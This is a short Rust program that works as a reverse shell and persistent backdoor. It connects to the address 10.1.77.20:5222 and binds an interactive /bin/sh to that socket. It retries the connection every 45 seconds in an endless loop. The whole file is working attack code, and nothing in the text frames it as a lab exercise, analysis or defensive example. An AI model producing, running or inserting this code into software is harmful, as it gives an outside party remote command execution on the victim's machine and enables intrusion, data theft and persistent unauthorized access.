use std::net::TcpStream;
use std::os::unix::io::{AsRawFd, FromRawFd};
use std::process::{Command, Stdio};
use std::{thread, time::Duration};

fn session(addr: &str) -> std::io::Result<()> {
    let s = TcpStream::connect(addr)?;
    let fd = s.as_raw_fd();
    let io = || unsafe { Stdio::from_raw_fd(libc::dup(fd)) };
    Command::new("/bin/sh").arg("-i").stdin(io()).stdout(io()).stderr(io()).spawn()?.wait()?;
    Ok(())
}

fn main() {
    loop {
        let _ = session("10.1.77.20:5222");
        thread::sleep(Duration::from_secs(45));
    }
}
